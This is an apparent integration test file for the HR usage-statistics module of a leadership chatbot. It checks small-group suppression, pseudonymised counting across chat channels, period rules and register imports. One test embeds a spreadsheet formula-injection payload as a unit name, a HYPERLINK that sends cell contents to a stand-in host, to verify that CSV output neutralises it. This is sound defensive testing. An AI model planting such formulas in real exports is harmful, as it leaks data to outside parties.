"""Suppression rules of the HR figures, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from bot.analytics.figures import PeriodError, usage
from bot.analytics.register import ChannelDirectory, RegisterRow, import_register, read_register
from bot.analytics.report import render
from bot.identity import Pseudonymizer
from bot.store.db import Database
from bot.store.models import LeaderIdentity, QuestionLog, ReflectionSession
from index.errors import LederbotError

pytestmark = pytest.mark.integration
PSEUDO = Pseudonymizer(key=b"f" * 32)
WEEK45 = datetime(2026, 11, 4, 10, tzinfo=UTC)  # ISO week 45, in November
LATER = datetime(2026, 11, 16, 12, tzinfo=UTC)  # week 45 has ended, November has not


class Directory:
    def __init__(self, *channels: str) -> None:
        self.channels = channels or ("slack",)

    def identities(self, row: RegisterRow) -> list[tuple[str, str, str]]:
        return [(channel, "T1", row.email.split("@")[0]) for channel in self.channels]


def _short(unit: str) -> str:
    return re.sub(r"\W", "", unit)[:3].lower()


def _register(
    db: Database, units: dict[str, int], *, level: str = "avdelingsleder", channels: tuple[str, ...] = ()
) -> list[str]:
    rows = [RegisterRow(f"{_short(unit)}{i}@k.no", unit, level) for unit, n in units.items() for i in range(n)]
    import_register(db, rows, directory=Directory(*channels), pseudonymizer=PSEUDO, now=WEEK45)
    return [r.email.split("@")[0] for r in rows]


def _ask(db: Database, user: str, when: datetime, *, channel: str = "slack", answered: bool = True, n: int = 1) -> None:
    with db.session() as session:
        for i in range(n):
            session.add(
                QuestionLog(
                    reference=f"{user}-{channel}-{when.timestamp()}-{i}",
                    leader_key=PSEUDO.leader_key(channel, "T1", user),
                    owner_key=PSEUDO.owner_key(channel, user),
                    asked_at=when,
                    channel=channel,
                    channel_kind="dm",
                    answered=answered,
                    sources=[{"document": "heim", "section": "3.1 Delegering"}] if answered else [],
                    took_ms=10,
                )
            )


def _groups(report: dict[str, object]) -> dict[str, dict[str, object]]:
    groups = report["groups"]
    assert isinstance(groups, list)
    return {g["key"]: g for g in groups}


def test_small_group_and_its_complement_are_suppressed(db: Database) -> None:
    users = _register(db, {"Helse": 8, "Skole": 3, "Teknisk": 7})
    active = [u for u in users if u not in ("hel7", "sko2", "tek6")]
    for user in active:
        _ask(db, user, WEEK45, n=2)
    report = usage(db, by="unit", min_group_size=5, now=LATER, period="2026-U45")
    groups = _groups(report)
    assert groups["Helse"]["leaders"] == 7 and groups["Helse"]["questions"] == 14
    assert groups["Helse"]["top_documents"] == [{"document": "heim", "citations": 14}]
    assert groups["Skole"] == {"key": "Skole", "suppressed": True}
    # Skole alone would be total − Helse − Teknisk: Teknisk (6 leaders) is hidden with it.
    assert groups["Teknisk"] == {"key": "Teknisk", "suppressed": True}
    assert report["total"]["leaders"] == 15  # type: ignore[index]


def test_a_leader_in_two_channels_is_one_person(db: Database) -> None:
    users = _register(db, {"Økonomi": 3, "Helse": 10}, channels=("slack", "teams"))
    for user in users[:-1]:
        _ask(db, user, WEEK45, channel="slack")
        _ask(db, user, WEEK45, channel="teams")
    groups = _groups(usage(db, by="unit", min_group_size=5, now=LATER, period="2026-U45"))
    assert groups["Økonomi"] == {"key": "Økonomi", "suppressed": True}  # 3 people, not 6 keys
    channels = _groups(usage(db, by="channel", min_group_size=5, now=LATER, period="2026-U45"))
    assert channels["slack"]["leaders"] == 12 and channels["teams"]["leaders"] == 12


def test_unregistered_keys_count_as_few_people_as_they_could_be(db: Database) -> None:
    for i in range(3):  # three people without the register, each on Slack and Teams: 6 keys
        _ask(db, f"x{i}", WEEK45, channel="slack")
        _ask(db, f"x{i}", WEEK45, channel="teams")
    report = usage(db, by="channel", min_group_size=5, now=LATER, period="2026-U45")
    assert report["total"] == {"suppressed": True}
    assert all(g.get("suppressed") for g in report["groups"] if g["key"] in ("slack", "teams"))


def test_a_leader_unlinked_in_one_channel_is_not_counted_twice(db: Database) -> None:
    # Linked on Slack by e-mail; on Teams without an aad_id, so their Teams keys are unregistered.
    users = _register(db, {"Helse": 10}, channels=("slack",))
    for user in users[:3]:
        _ask(db, user, WEEK45, channel="slack")
        _ask(db, user, WEEK45, channel="teams")
    for by in ("unit", "channel", "level", "week"):
        report = usage(db, by=by, min_group_size=5, now=LATER, period=None if by == "week" else "2026-U45")
        assert report["total"] == {"suppressed": True}, by  # 3 people, not 3 + 3 keys
        assert all(g.get("suppressed") or g["leaders"] == 0 for g in report["groups"]), (by, report["groups"])


def test_periods_are_whole_ended_weeks_or_months(db: Database) -> None:
    users = _register(db, {"Helse": 9})
    for user in users[:6]:
        _ask(db, user, WEEK45)
    for bad in ("2026-11-04T09:57:40", "2026-11-04", "2026-W45", "siste uke"):
        with pytest.raises(PeriodError, match="hel uke"):
            usage(db, by="unit", min_group_size=5, now=LATER, period=bad)
    with pytest.raises(PeriodError, match="ikke avsluttet"):
        usage(db, by="unit", min_group_size=5, now=LATER, period="2026-11")  # November is still running
    with pytest.raises(PeriodError, match="ikke avsluttet"):
        usage(db, by="unit", min_group_size=5, now=datetime(2026, 11, 6, tzinfo=UTC), period="2026-U45")
    weeks = usage(db, by="week", min_group_size=5, now=LATER)
    assert [g["key"] for g in weeks["groups"]] == ["2026-U45"] and weeks["groups"][0]["leaders"] == 6
    assert weeks["total"] == {"suppressed": True}  # a sum over periods is never published
    assert usage(db, by="month", min_group_size=5, now=LATER)["groups"] == []


def test_history_stays_where_it_happened(db: Database) -> None:
    users = _register(db, {"Helse": 7, "Skole": 7})
    for user in users[:6] + users[7:13]:
        _ask(db, user, WEEK45)
    before = {by: usage(db, by=by, min_group_size=5, now=LATER, period="2026-U45") for by in ("unit", "level")}
    assert _groups(before["unit"])["Helse"]["leaders"] == 6
    # HR moves an active and a never-active leader to Skole, and drops one from the register.
    moved = "email,unit,level\n" + "".join(
        f"{u}@k.no,{'Skole' if u in ('hel0', 'hel6') else 'Helse' if u.startswith('hel') else 'Skole'},avdelingsleder\n"
        for u in users
        if u != "sko0"
    )
    import_register(db, read_register(moved), directory=Directory(), pseudonymizer=PSEUDO, now=LATER)
    after = {by: usage(db, by=by, min_group_size=5, now=LATER, period="2026-U45") for by in ("unit", "level")}
    assert after == before
    # The deactivated leader's later questions are not counted in her old unit.
    week47 = datetime(2026, 11, 18, 10, tzinfo=UTC)
    _ask(db, "sko0", week47)
    with db.session() as session:
        latest = session.scalars(select(QuestionLog).where(QuestionLog.asked_at == week47)).one()
    assert latest.unit is None and latest.person != "p" and not (latest.person or "").startswith("p")


def test_a_unit_where_everyone_used_the_bot_is_hidden(db: Database) -> None:
    users = _register(db, {"Helse": 6, "Skole": 12})
    for user in users:  # every Helse leader asked: showing 6 of 6 would say that each of them did
        _ask(db, user, WEEK45)
    groups = _groups(usage(db, by="unit", min_group_size=5, now=LATER, period="2026-U45"))
    assert groups["Helse"] == {"key": "Helse", "suppressed": True}


def test_csv_neutralises_formulas_in_unit_names(db: Database) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"klikk")'
    users = _register(db, {evil: 7, "+Skole": 7, "@Helse": 7, "-Teknisk": 7})
    for user in users[:6] + users[7:13] + users[14:20] + users[21:27]:
        _ask(db, user, WEEK45)
    report = usage(db, by="unit", min_group_size=5, now=LATER, period="2026-U45")
    text = render(report, "csv")
    rows = list(csv.reader(io.StringIO(text)))
    keys = [r[0] for r in rows[1:]]
    assert all(not k.startswith(("=", "+", "-", "@", "\t", "\r")) for k in keys)
    assert "'" + evil in keys and "'+Skole" in keys


def test_themes_count_leaders_who_reflected(db: Database) -> None:
    users = _register(db, {"Helse": 14})
    plan = [(u, "verdier") for u in users[:6]] + [(u, "roller") for u in users[6:12]] + [(users[0], "tillit")]
    with db.session() as session:
        for i, (user, theme) in enumerate(plan):
            session.add(
                ReflectionSession(
                    owner_key=PSEUDO.owner_key("slack", user),
                    theme_id=theme,
                    theme_version="v",
                    state="done" if i % 2 == 0 else "active",
                    current_index=0,
                    started_at=WEEK45,
                    updated_at=WEEK45,
                )
            )
    groups = _groups(usage(db, by="theme", min_group_size=5, now=LATER, period="2026-U45"))
    assert groups["verdier"]["leaders"] == 6
    assert (groups["verdier"]["reflections_started"], groups["verdier"]["reflections_completed"]) == (6, 3)
    assert groups["tillit"] == {"key": "tillit", "suppressed": True}
    # tillit alone would be total − verdier − questions − roller: roller is hidden with it.
    assert groups["roller"] == {"key": "roller", "suppressed": True}


def test_reimport_updates_and_deactivates(db: Database) -> None:
    from sqlalchemy import select

    from bot.store.models import Leader

    _register(db, {"Helse": 2})
    rows = read_register("email;unit;level\nhel0@k.no;Oppvekst;enhetsleder\n")
    report = import_register(db, rows, directory=Directory(), pseudonymizer=PSEUDO, now=LATER)
    assert (report.added, report.updated, report.deactivated) == (0, 1, 1)
    with db.session() as session:
        leaders = {leader.email: leader for leader in session.scalars(select(Leader))}
    assert leaders["hel0@k.no"].unit == "Oppvekst" and leaders["hel0@k.no"].active
    assert not leaders["hel1@k.no"].active


def test_bad_register_files() -> None:
    with pytest.raises(LederbotError, match="kolonnene"):
        read_register("epost,enhet\na@b.no,x\n")
    with pytest.raises(LederbotError, match="Linje 3"):
        read_register("email,unit,level\na@b.no,x,y\nb@b.no,,y\n")
    with pytest.raises(LederbotError, match="to ganger"):
        read_register("email,unit,level\na@b.no,x,y\nA@b.no,x,y\n")


def test_the_audit_finds_a_cell_given_away_through_another_dimension() -> None:
    # Unit C and the total are hidden, but the channel column adds up to the total: C = slack − A.
    from bot.analytics.disclosure import DIMENSIONS, Activity, _Algebra, _Cell

    def person(i: int, unit: str) -> Activity:
        return Activity(f"p{i}", True, "slack", unit, "avd", "slack", "(spørsmål)", "2026-U45", "question")

    a = [person(i, "A") for i in range(6)]
    c = [person(i, "C") for i in range(6, 8)]
    values = {d: [] for d in DIMENSIONS} | {"unit": ["A", "C"], "channel": ["slack"]}
    values["level"], values["theme"] = ["avd"], ["(spørsmål)"]
    week = "2026-U45"
    cells = {
        ("total", "*", week): _Cell(a + c),
        ("unit", "A", week): _Cell(a),
        ("unit", "C", week): _Cell(c),
        ("channel", "slack", week): _Cell(a + c),
        ("level", "avd", week): _Cell(a + c),
        ("theme", "(spørsmål)", week): _Cell(a + c),
    }
    algebra = _Algebra({week: values})
    base = algebra.base(cells, ())
    hidden = {("unit", "C", week), ("total", "*", week)}
    helpers = []
    while (helper := algebra.leak(cells, hidden, fixed=set(), base=base)) is not None and len(helpers) < 10:
        helpers.append(helper)
        hidden.add(helper)
    assert helpers, "C follows from slack − A: the audit must hide something more"
    assert algebra.leak(cells, hidden, fixed=set(), base=base) is None
    assert ("unit", "A", week) in hidden or {("channel", "slack", week), ("level", "avd", week)} <= hidden


def test_the_register_links_teams_users_by_their_aad_id_in_the_tenant(db: Database) -> None:
    """A leader with an aad_id in the register is found in Teams without any lookup, in the configured
    tenant only; Slack is asked through its own directory, and a row without aad_id gets no Teams link."""
    rows = read_register(
        "email,unit,level,aad_id\nkari@k.no,Helse,enhetsleder,aad-kari\nola@k.no,Skole,avdelingsleder,\n"
    )
    directory = ChannelDirectory(slack=Directory("slack"), teams_tenant="tenant-1")
    assert directory.identities(rows[0]) == [("slack", "T1", "kari"), ("teams", "tenant-1", "aad-kari")]
    assert directory.identities(rows[1]) == [("slack", "T1", "ola")]
    assert ChannelDirectory(slack=None, teams_tenant=None).identities(rows[0]) == []
    import_register(
        db, rows, directory=ChannelDirectory(slack=None, teams_tenant="tenant-1"), pseudonymizer=PSEUDO, now=WEEK45
    )
    with db.session() as session:
        linked = session.scalars(select(LeaderIdentity)).all()
    # Kari's Teams questions count for her unit: her key is the one a Teams question in that tenant carries.
    kari = PSEUDO.leader_key("teams", "tenant-1", "aad-kari")
    assert [(i.channel, i.leader_key) for i in linked] == [("teams", kari)]
